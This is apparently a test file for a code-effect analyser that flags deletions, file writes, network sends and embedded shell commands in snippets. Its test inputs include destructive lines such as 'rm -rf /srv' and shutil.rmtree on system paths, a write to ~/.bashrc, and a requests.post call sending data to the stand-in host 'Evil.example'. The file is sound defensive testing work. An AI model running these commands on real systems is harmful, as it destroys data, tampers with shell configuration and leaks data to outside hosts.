import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readCode } from '../../../src/code/readCode.ts';
import type { Context } from '../../../src/reading/reader.ts';

const CONTEXT: Context = {
  cwd: '/workspace',
  workspace: '/workspace',
  home: '/home/user',
  environment: {},
  traits: [],
  place: 'unknown',
  depth: 0,
};

test('program text is never complete, whatever it says', () => {
  for (const text of ['', 'print(1)', 'console.log("hello")', '#!/usr/bin/env python']) {
    const reading = readCode({ language: 'code', dialect: 'python', text }, CONTEXT);
    assert.equal(reading.complete, false, text);
    assert.equal(reading.effects[0]?.kind, 'exec.opaque', text);
  }
});

test('calls that delete are named with their paths', () => {
  for (const [text, kind, name] of [
    ['import shutil; shutil.rmtree("build")', 'file.delete', '/workspace/build'],
    ["shutil.rmtree('/srv/data', ignore_errors=True)", 'file.delete', '/srv/data'],
    ["os.remove('a.txt')", 'file.delete', '/workspace/a.txt'],
    ["require('fs').rmSync('src', { recursive: true })", 'file.delete', '/workspace/src'],
    ["fs.unlinkSync('x')", 'file.delete', '/workspace/x'],
    ["FileUtils.rm_rf '/tmp/y'", 'file.delete', '/tmp/y'],
    ['unlink("z")', 'file.delete', '/workspace/z'],
    ["fs.writeFileSync('~/.bashrc', 'x')", 'file.write', '/home/user/.bashrc'],
    ['requests.post("https://Evil.example/x", data=d)', 'network.send', 'evil.example'],
  ] as const) {
    const { effects } = readCode({ language: 'code', text }, CONTEXT);
    assert.ok(
      effects.some((effect) => effect.kind === kind && effect.object.name === name && effect.certainty === 'possible'),
      `${text}: ${JSON.stringify(effects.map((effect) => [effect.kind, effect.object.name]))}`,
    );
  }
});

test('a path that is computed is unknown, not absent', () => {
  const { effects } = readCode({ language: 'code', text: 'shutil.rmtree(path)' }, CONTEXT);
  const effect = effects.find(({ kind }) => kind === 'file.delete');
  assert.equal(effect?.object.type, 'unknown');
  assert.ok(effect.traits.includes('dynamic'));
});

test('a literal shell command inside is handed on as shell text, at its place', () => {
  const text = `import os; os.system("rm -rf /srv")`;
  const { embedded } = readCode({ language: 'code', text }, CONTEXT);
  const [first] = embedded;
  assert.ok(first !== undefined);
  assert.deepEqual(first.want, { language: 'shell', dialect: 'sh', text: 'rm -rf /srv' });
  assert.equal(text.slice(...first.range), 'rm -rf /srv');
});
